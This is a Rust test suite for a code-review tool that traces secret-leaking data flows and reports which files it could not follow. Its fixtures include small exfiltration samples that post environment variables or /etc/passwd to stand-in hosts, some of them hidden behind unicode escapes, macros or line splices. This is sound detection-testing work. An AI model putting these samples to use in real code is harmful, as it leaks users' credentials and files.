//! Hostile bytes: each review ends, and its coverage tells what happened to the file.

use std::fs;
use std::path::Path;

use candor::report::model::{Disposition, FileCoverage, Report, VerdictValue};

use super::review_run::Review;

/// Reviews a submission of `files` besides one harmless file.
fn review(files: &[(&str, Vec<u8>)]) -> Report {
    let scratch = tempfile::tempdir().expect("a scratch folder");
    let root = scratch.path().join("submission");
    fs::create_dir(&root).expect("a folder");
    fs::write(root.join("fine.py"), "import os\nprint(os.getcwd())\n").expect("a file");
    for (name, bytes) in files {
        fs::write(root.join(name), bytes).expect("a file");
    }
    reviewed(&root)
}

fn reviewed(root: &Path) -> Report {
    let review = Review::of(root).arg("--no-store").run();
    let report = review.report();
    assert_eq!(file(&report, "fine.py").disposition, Disposition::Dataflow, "the rest is examined as ever");
    report
}

fn file<'a>(report: &'a Report, name: &str) -> &'a FileCoverage {
    let found = report.coverage.files.iter().find(|file| file.path == name);
    found.unwrap_or_else(|| panic!("{name} has no line in the ledger"))
}

/// Bytes without structure, the same on every run (xorshift).
fn noise(length: usize) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 32) as u8
    };
    (0..length).map(|_| next()).collect()
}

#[test]
fn code_that_a_parser_chokes_on_gets_a_weaker_pass_and_is_named() {
    let nested = |open: &str, close: &str, count| [open.repeat(count), "1".to_owned(), close.repeat(count)].concat();
    let files = [
        ("braces.c", "{<".repeat(500_000).into_bytes()),
        ("arrows.c", "a=>".repeat(10_000).into_bytes()),
        ("noise.py", noise(1_000_000)),
        ("nested.py", nested("(", ")", 200_000).into_bytes()),
        ("nested.c", format!("int x = {};", nested("(", ")", 200_000)).into_bytes()),
        ("indents.py", (0..3000).map(|depth| format!("{}if x:\n", " ".repeat(depth))).collect::<String>().into_bytes()),
        ("nul.c", [b"int main(void) { return 0; }\n".as_slice(), &[0; 100_000]].concat()),
        ("line.py", [b"x = '".to_vec(), vec![b'a'; 2_000_000], b"'\n".to_vec()].concat()),
    ];
    let report = review(&files);
    for (name, bytes) in &files {
        let line = file(&report, name);
        assert_eq!(line.bytes, bytes.len() as u64, "{name}");
        assert!(line.disposition == Disposition::Dataflow || line.reason.is_some(), "{name}: {line:?}");
    }
    for name in ["braces.c", "noise.py", "nested.py", "nested.c", "nul.c"] {
        assert_ne!(file(&report, name).disposition, Disposition::Dataflow, "{name}");
    }
}

#[test]
fn text_that_is_not_utf_8_is_read_nevertheless() {
    let source = b"import os, requests\n# caf\xe9\nrequests.post('https://a.example', data=dict(os.environ))\n".to_vec();
    let report = review(&[("latin.py", source)]);
    assert!(report.findings.iter().any(|finding| finding.sink.path == "latin.py"));
}

#[test]
fn one_huge_file_costs_no_more_than_its_own_line() {
    let scratch = tempfile::tempdir().expect("a scratch folder");
    fs::write(scratch.path().join("fine.py"), "pass\n").expect("a file");
    fs::File::create(scratch.path().join("huge.c")).and_then(|file| file.set_len(300 << 20)).expect("a sparse file");
    let report = reviewed(scratch.path());
    let told = report.coverage.refused.iter().any(|refusal| refusal.path == "huge.c")
        || report.coverage.files.iter().any(|file| file.path == "huge.c" && file.disposition != Disposition::Dataflow);
    assert!(told, "nothing says what became of huge.c");
}

#[test]
fn very_many_files_all_have_their_line() {
    let scratch = tempfile::tempdir().expect("a scratch folder");
    fs::write(scratch.path().join("fine.py"), "pass\n").expect("a file");
    for folder in 0..20 {
        let folder = scratch.path().join(format!("d{folder}"));
        fs::create_dir(&folder).expect("a folder");
        for number in 0..1000 {
            fs::File::create(folder.join(format!("{number}.py"))).expect("a file");
        }
    }
    assert_eq!(reviewed(scratch.path()).coverage.totals.files, 20_001);
}

/// Deep, long and tangled code that is valid: it is followed or named, in time that a test has.
#[test]
fn code_of_a_shape_that_nobody_writes_ends_in_time() {
    let c = |body: String| format!("int f(int a) {{ {body} }}\n").into_bytes();
    let indents = |depth: usize| {
        let ifs: String = (0..depth).map(|depth| format!("{}if x:\n", " ".repeat(depth))).collect();
        format!("{ifs}{}pass\n", " ".repeat(depth)).into_bytes()
    };
    let files = [
        ("arrows.py", "a=>".repeat(10_000).into_bytes()),
        ("indents.py", indents(90)),
        ("deep_indents.py", indents(2_000)),
        ("line.c", ["int a[] = {".to_owned(), "1,".repeat(250_000), "};\n".to_owned()].concat().into_bytes()),
        ("blocks.c", c(["{".repeat(100_000), "}".repeat(100_000)].concat())),
        ("not.c", c(format!("return {}a;", "!".repeat(20_000)))),
        ("minus.c", c(format!("return {}a;", "- ".repeat(20_000)))),
        ("not.py", format!("x = {}1\n", "not ".repeat(20_000)).into_bytes()),
        ("else.c", c((0..3_000).map(|n| format!("if (a == {n}) a++; else ")).collect::<String>() + "a--; return a;")),
        ("elif.py", ["def f(a):\n  if a:\n    pass\n", &"  elif a:\n    a += 1\n".repeat(3_000)].concat().into_bytes()),
        ("cases.c", c(format!("return {}0;", (0..5_000).map(|n| format!("a == {n} ? {n} : ")).collect::<String>()))),
        ("sum.py", format!("x = {}\n", vec!["'a'"; 20_000].join(" + ")).into_bytes()),
        ("dots.py", format!("x = a{}\n", ".b".repeat(20_000)).into_bytes()),
        (
            "calls.py",
            (0..1_000)
                .map(|n| format!("def f{n}(x):\n    return f{}(x)\n", (n * 7 + 1) % 1_000))
                .collect::<String>()
                .into_bytes(),
        ),
        ("statements.c", c((1..1_000).map(|n| format!("int a{n} = g(a{});\n", n / 2)).collect::<String>() + "return a;")),
    ];
    let report = review(&files);
    for (name, bytes) in &files {
        let line = file(&report, name);
        assert_eq!(line.bytes, bytes.len() as u64, "{name}");
        assert!(line.disposition == Disposition::Dataflow || line.reason.is_some(), "{name}: {line:?}");
    }
}

/// Code that no data was followed through is no ground for a clean verdict, whatever took it out.
#[test]
fn a_verdict_is_not_clean_where_code_was_not_followed() {
    for (name, bytes) in [
        ("braces.c", "{<".repeat(50_000).into_bytes()),
        ("noise.py", noise(100_000)),
        ("nul.c", [b"int main(void) { return 0; }\n".as_slice(), &[0; 10_000]].concat()),
    ] {
        let report = review(&[(name, bytes)]);
        assert_eq!(report.verdict.value, VerdictValue::Incomplete, "{name}");
        assert!(report.verdict.reasons.iter().any(|reason| reason.code == "unfollowed-files" && reason.count == 1), "{name}");
    }
    let sound = "def f(x):\n    return x[1, 'a'] + 2\n".repeat(1_000);
    for (name, text) in [
        ("encoded.py", "# coding: unicode_escape\n# \\x0aimport os\nx = 1\n".to_owned()),
        ("repeated.py", format!("{sound}{}{sound}", "f()\n".repeat(3_000))),
        ("nested.py", format!("{sound}y = {}1{}\n", "(".repeat(1_500), ")".repeat(1_500))),
    ] {
        let report = review(&[(name, text.into_bytes())]);
        assert!(report.verdict.reasons.iter().any(|reason| reason.code == "unfollowed-files" && reason.count == 1), "{name}");
    }
    for (name, text) in [("encoded.py", format!("# coding: latin-1\n{sound}")), ("broken.py", format!("{sound}x = = (\n{sound}"))]
    {
        assert_eq!(review(&[(name, text.into_bytes())]).verdict.value, VerdictValue::Passed, "{name}");
    }
    assert_eq!(review(&[("notes.txt", b"a text\n".to_vec())]).verdict.value, VerdictValue::Passed);
}

/// A call with so many arguments that following them all would take for ever: what is given up is said.
#[test]
fn a_verdict_is_not_clean_where_following_was_given_up() {
    let sources: Vec<String> = (0..20_000).map(|n| format!("os.getenv('A{n}')")).collect();
    let text = format!("import os, requests\ndef f():\n    requests.post('https://a.example', data=g({}))\n", sources.join(", "));
    let report = review(&[("flood.py", text.into_bytes())]);
    assert_eq!(report.verdict.value, VerdictValue::Incomplete);
    assert!(report.verdict.reasons.iter().any(|reason| reason.code == "flow-given-up"), "{:?}", report.verdict.reasons);
    assert!(report.limits.iter().any(|limit| limit.name == "flow-steps" && limit.hits > 0), "{:?}", report.limits);
}

/// A finding with more views than it lists says so, and what a sentence names is its address.
#[test]
fn what_is_cut_of_a_finding_is_told_and_sentences_name_addresses() {
    let readers: String = (0..850).map(|n| format!("def read{n}():\n    send(open('f{n}').read())\n\n")).collect();
    let text = format!(
        "import requests\n\nHELP = 'see https://help.example/manual, or ask'\n\ndef send(data):\n    requests.post('https://collect.example', data=data)\n\n{readers}"
    );
    let report = review(&[("many.py", text.into_bytes())]);
    let most = report.findings.iter().map(|finding| finding.variants.len()).max();
    let limit = report.limits.iter().find(|limit| limit.name == "variants-of-a-finding").expect("a limit");
    assert_eq!((most, limit.value, limit.hits), (Some(800), 800, 1));
    let values: Vec<&str> = report.endpoints.iter().map(|endpoint| endpoint.value.as_str()).collect();
    assert!(values.contains(&"https://help.example/manual") && values.contains(&"https://collect.example"), "{values:?}");
}

/// A stretch that was cut out of a file is named although the rest of it was followed.
#[test]
fn what_was_left_out_of_a_file_is_told() {
    let sound: String = (0..200).map(|n| format!("def f{n}(x):\n    return x + {n}\n")).collect();
    let text = format!("{sound}y = {}1{}\n", "(".repeat(1_500), ")".repeat(1_500));
    let report = review(&[("partly.py", text.into_bytes())]);
    let line = file(&report, "partly.py");
    assert!(line.disposition == Disposition::Dataflow && line.reason.is_some(), "{line:?}");
}

/// Texts are followed as their compilers read them: lines that end within words, escapes outside of literals, words that mostly
/// decorate declarations and that the text defines.
#[test]
fn code_is_what_its_compiler_sees() {
    let java = |name: &str, body: &str| {
        format!(
            "import java.net.Socket;\nimport java.nio.file.*;\nclass {name} {{\n  void run() throws Exception {{\n\
             byte[] data = Files.readAllBytes(Path.of(\"/etc/passwd\"));\n{body}\n  }}\n}}\n"
        )
    };
    let c = |before: &str, body: &str| {
        format!(
            "#include <stdlib.h>\n#include <string>\n#include <sys/socket.h>\nstatic int wire;\n{before}\nint main() {{ {body} }}\n"
        )
    };
    let sends = "{ send(wire, text, 9, 0); }";
    let files = [
        ("Name.java", java("Name", "new \\u0053ocket(\"a\", 1).\\u0067etOutputStream().write(data);")),
        ("Comment.java", java("Comment", "/* \\u002a\\u002f new Socket(\"a\", 1).getOutputStream().write(data); /* */")),
        ("torn.c", c("", "se\\\nnd(wire, get\\\nenv(\"A\"), 9, 0);")),
        ("ended.c", c("", "/* a *\\\n/ send(wire, getenv(\"A\"), 9, 0); /* */")),
        (
            "out.c",
            c(&format!("typedef const char *OUT;\nstatic void put(int count, OUT text) {sends}"), "put(1, getenv(\"A\"));"),
        ),
        (
            "callback.c",
            c(
                &format!(
                    "typedef void (*CALLBACK)(const char *);\nstatic void put(const char *text) {sends}\n\
                     static void call(CALLBACK back, const char *text) {{ back(text); }}"
                ),
                "call(put, getenv(\"A\"));",
            ),
        ),
        ("text.cpp", c(&format!("using Q_TEXT = const char *;\nstatic void put(Q_TEXT text) {sends}"), "put(getenv(\"A\"));")),
        (
            "macro.cpp",
            c("#define Q_SEND(d) send(wire, d.data(), d.size(), 0);", "std::string text = getenv(\"A\"); Q_SEND(text) return 0;"),
        ),
    ];
    let quiet = [
        (
            "Quiet.java",
            java("Quiet", "/* \\u0041 new Socket(\"a\", 1).getOutputStream().write(data); */ String s = \"\\u0041\";"),
        ),
        ("quiet.c", c("", "/* a * \\\n/ send(wire, getenv(\"A\"), 9, 0); /* */ return 0;")),
    ];
    let given: Vec<(&str, Vec<u8>)> = files.iter().chain(&quiet).map(|(name, text)| (*name, text.clone().into_bytes())).collect();
    let report = review(&given);
    let mut leaking: Vec<&str> = report.findings.iter().flat_map(|finding| finding.ways()).map(|[_, (path, _)]| path).collect();
    leaking.sort_unstable();
    leaking.dedup();
    let mut expected: Vec<&str> = files.iter().map(|(name, _)| *name).collect();
    expected.sort_unstable();
    assert_eq!(leaking, expected);
}

/// What stands in front of a long repetition is followed as ever.
#[test]
fn a_repetition_takes_no_statement_with_it() {
    let sound = "def f(x):\n    return x[1, 'a'] + 2\n".repeat(1_000);
    let leak = "import requests\nrequests.post('https://a.example', data=open('/etc/passwd').read())\n";
    for lines in [600, 3_000] {
        let text = format!("{sound}{}{leak}{}", "f()\n".repeat(lines), "f()\n".repeat(lines));
        let report = review(&[("leak.py", text.into_bytes())]);
        assert!(report.findings.iter().any(|finding| finding.sink.path == "leak.py"), "{lines}: {:?}", report.verdict);
    }
}

/// The worker runs out of the memory it may have: that costs the file it was at.
#[test]
fn a_file_that_takes_all_memory_is_left_out_and_named() {
    let scratch = tempfile::tempdir().expect("a scratch folder");
    let numbers = ["int a[] = {".to_owned(), "1,".repeat(2_000_000), "};\n".to_owned()].concat();
    fs::write(scratch.path().join("table.c"), numbers).expect("a file");
    fs::write(scratch.path().join("fine.py"), "import os\nprint(os.getcwd())\n").expect("a file");
    for review in [
        Review::of(scratch.path()).arg("--jobs=1").after("ulimit -d 120000"),
        Review::of(scratch.path()).arg("--jobs=2").arg("--memory=120"),
    ] {
        let review = review.arg("--no-store").run();
        assert_eq!(review.code, 2, "{}", review.stderr);
        assert!(review.stderr.contains("note: the worker ran out of memory at "), "{}", review.stderr);
        let report = review.report();
        assert_eq!(file(&report, "fine.py").disposition, Disposition::Dataflow);
        let line = file(&report, "table.c");
        assert_eq!(line.disposition, Disposition::Limit);
        assert_eq!(line.reason.as_deref(), Some("the worker that read it ran out of memory"));
        assert_eq!(report.verdict.value, VerdictValue::Incomplete);
    }
}

/// What is read and written at once, in what is read and written at once: looked at anew at each level, it would take for ever.
#[test]
fn nested_targets_are_looked_at_once() {
    let updates = format!("void f(int x) {{ {} x; }}\n", "++ ".repeat(60));
    let sums = format!("function f(a) {{ {}a{}; }}\n", "(".repeat(60), ".b += 1)".repeat(60));
    for (name, text) in [("updates.cpp", updates), ("sums.js", sums)] {
        let report = review(&[(name, text.into_bytes())]);
        let file = report.coverage.files.iter().find(|file| file.path == name).expect("the file");
        assert_eq!(file.disposition, Disposition::Dataflow, "{name}");
        // Nothing is lost silently: either all of it was understood, or none of it counts as understood.
        assert!(file.error_bytes == 0 || file.error_bytes == file.bytes, "{name}: {} of {}", file.error_bytes, file.bytes);
    }
}
